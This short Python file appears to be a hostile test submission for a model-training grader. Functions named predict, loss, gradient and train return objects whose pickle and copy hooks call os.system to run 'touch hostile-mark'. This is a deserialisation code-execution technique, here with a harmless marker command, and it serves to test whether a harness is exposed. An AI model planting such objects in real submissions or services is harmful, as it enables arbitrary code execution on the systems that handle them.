import os
class Evil:
    def __reduce__(self): return os.system, ("touch hostile-mark",)
    __reduce_ex__ = lambda self, protocol: (os.system, ("touch hostile-mark",))
    __copy__ = __deepcopy__ = __getstate__ = __setstate__ = lambda self, *_: os.system("touch hostile-mark")
def predict(X, w, b): return Evil()
def loss(X, Y, w, b): return np.array([Evil(), Evil()], dtype=object)
def gradient(X, Y, w, b): return {"w": Evil(), "b": [Evil()]}
def train(X, Y, iterations, lr): raise type("EvilError", (Exception,), {"__reduce__": Evil.__reduce__})(Evil())
